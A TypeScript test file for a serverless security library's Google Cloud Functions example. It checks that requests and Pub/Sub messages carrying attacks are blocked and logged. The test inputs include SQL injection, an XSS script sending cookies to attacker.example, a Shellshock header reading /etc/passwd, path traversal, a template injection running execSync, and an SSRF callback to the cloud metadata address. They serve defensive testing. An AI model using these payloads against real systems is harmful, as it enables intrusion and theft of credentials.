/**
 * examples/gcp-functions: type-checks against the package by name, compiles to package.json "main",
 * and is served by the real functions-framework CLI (node_modules/.bin/functions-framework) on
 * 127.0.0.1, one process per target as Cloud Run functions runs it: real HTTP requests to the `api`
 * function, real CloudEvents (Pub/Sub messagePublished, binary content mode) to `fulfilOrder`.
 */
import t, { type Test } from 'tap';
import { spawn, type ChildProcess } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { freePort, jsonLines, order, root, stage, tsc, waitFor } from './helpers';

type Any = any;

const example = stage('gcp-functions');
t.teardown(example.cleanup);
const dir = example.dir;
const cli = path.join(root, 'node_modules', '.bin', 'functions-framework');

interface Served {
  url: string;
  out: () => string;
  stop: () => Promise<void>;
}

/** `functions-framework --target=<name> --source=<compiled file> --port=<free port>` on loopback. */
async function serve(t: Test, target: string): Promise<Served> {
  const port = await freePort();
  let out = '';
  const child: ChildProcess = spawn(cli, [`--target=${target}`, `--source=${path.join(dir, example.pkg.main!)}`, `--port=${port}`, '--host=127.0.0.1'], {
    cwd: dir,
    env: { PATH: process.env.PATH ?? '' },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  child.stdout!.on('data', (d: Buffer) => (out += d.toString()));
  child.stderr!.on('data', (d: Buffer) => (out += d.toString()));
  const stop = async (): Promise<void> => {
    if (child.exitCode !== null || child.signalCode !== null) return;
    const exited = new Promise<void>((r) => child.once('exit', () => r()));
    child.kill('SIGTERM');
    await exited;
  };
  t.teardown(stop);
  // Ready when the port answers (any status); fail fast if the process exits.
  const url = `http://127.0.0.1:${port}`;
  let ready = false;
  const deadline = Date.now() + 30_000;
  while (!ready && child.exitCode === null && Date.now() < deadline) {
    try {
      await fetch(url, { method: 'OPTIONS' });
      ready = true;
    } catch {
      await new Promise((r) => setTimeout(r, 100));
    }
  }
  if (!ready) throw new Error(`functions-framework did not start:\n${out}`);
  return { url, out: () => out, stop };
}

t.test('package.json and sources', async (t) => {
  t.equal(example.pkg.main, 'dist/index.js');
  t.equal(example.pkg.scripts?.['gcp-build'], 'npm run build', 'Cloud Build compiles the TypeScript on deploy');
  const src = fs.readFileSync(path.join(dir, 'src/index.ts'), 'utf8');
  t.match(src, /from 'serverless-rasp\/gcp-functions'/, 'imported by package name');
  t.match(src, /functions\.http\('api', api\)/);
  t.match(src, /functions\.cloudEvent\('fulfilOrder', fulfilOrder\)/);
});

t.test('type-checks and compiles to package.json "main"', async (t) => {
  const r = tsc(dir);
  t.equal(r.status, 0, r.output);
  t.ok(fs.existsSync(path.join(dir, example.pkg.main!)));
});

t.test('HTTP function served by the real functions-framework', async (t) => {
  const srv = await serve(t, 'api');
  const post = (body: unknown, headers: Record<string, string> = {}) =>
    fetch(`${srv.url}/orders`, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: JSON.stringify(body) });

  const created = await post(order());
  t.equal(created.status, 201, 'a valid order: 201');
  t.equal(((await created.json()) as Any).units, 3);

  const sqli = await post(order({ customer: { name: "x' OR '1'='1", email: 'x@example.com' } }), { 'function-execution-id': 'exec-sqli-1' });
  t.equal(sqli.status, 403, 'SQL injection in the body: 403');
  t.same(await sqli.json(), { error: 'blocked', requestId: 'exec-sqli-1' });

  const invalid = await post(order({ items: [] }));
  t.equal(invalid.status, 400, 'schema violation: 400');

  const benignGet = await fetch(`${srv.url}/orders?q=${encodeURIComponent("O'Brien & Sons")}`);
  t.equal(benignGet.status, 200);
  t.same(await benignGet.json(), { q: "O'Brien & Sons", results: [] });

  const xss = await fetch(`${srv.url}/orders?q=${encodeURIComponent('<script>fetch("//attacker.example/"+document.cookie)</script>')}`);
  t.equal(xss.status, 403, 'XSS in the query: 403');
  const shellHeader = await fetch(`${srv.url}/orders`, { headers: { 'user-agent': '() { :; }; /bin/bash -c "cat /etc/passwd"' } });
  t.equal(shellHeader.status, 403, 'Shellshock in a header: 403');
  const traversal = await fetch(`${srv.url}/orders/..%2f..%2f..%2fetc%2fpasswd`);
  t.equal(traversal.status, 403, 'path traversal in the path: 403');

  await waitFor(() => jsonLines(srv.out()).filter((l) => l.type === 'serverless-rasp').length >= 5, 5000);
  const events = jsonLines(srv.out()).filter((l) => l.type === 'serverless-rasp');
  t.same(
    events.map((e) => e.class),
    ['sqli', 'schema', 'xss', 'shell', 'path-traversal'],
    'one security event per blocked request, on stdout',
  );
  t.ok(events.every((e) => e.provider === 'gcp' && e.trigger === 'http' && e.sourceIp !== undefined));
});

t.test('CloudEvent function served by the real functions-framework: Pub/Sub messages', async (t) => {
  const srv = await serve(t, 'fulfilOrder');
  const publish = (id: string, message: unknown, attributes: Record<string, string> = {}) =>
    fetch(srv.url, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        'ce-id': id,
        'ce-specversion': '1.0',
        'ce-source': '//pubsub.googleapis.com/projects/demo-project/topics/orders',
        'ce-type': 'google.cloud.pubsub.topic.v1.messagePublished',
        'ce-time': new Date().toISOString(),
      },
      body: JSON.stringify({
        message: { data: Buffer.from(JSON.stringify(message)).toString('base64'), attributes, messageId: id, publishTime: new Date().toISOString() },
        subscription: 'projects/demo-project/subscriptions/eventarc-orders-sub',
      }),
    });

  const ok = await publish('evt-clean-1', order());
  t.equal(ok.status, 204, 'a clean message is processed and acknowledged');
  const poisoned = await publish('evt-poison-1', order({ note: '{{constructor.constructor("return process")().mainModule.require("child_process").execSync("id")}}' }));
  t.equal(poisoned.status, 204, 'a malicious message is acknowledged and dropped (no redelivery loop)');
  const attr = await publish('evt-attr-1', order(), { callback: 'http://169.254.169.254/latest/meta-data/' });
  t.equal(attr.status, 204);

  await waitFor(() => jsonLines(srv.out()).length >= 3, 5000);
  const lines = jsonLines(srv.out());
  t.same(
    lines.filter((l) => l.msg === 'order fulfilled').map((l) => l.eventId),
    ['evt-clean-1'],
    'only the clean message reached the handler',
  );
  const events = lines.filter((l) => l.type === 'serverless-rasp');
  t.same(
    events.map((e) => `${e.requestId} ${e.action}`),
    ['evt-poison-1 block', 'evt-attr-1 block'],
    'each dropped message is recorded, keyed by the CloudEvent id',
  );
  t.same(
    events.map((e) => e.where),
    ['data.message.data.note', 'data.message.attributes.callback'],
  );
});
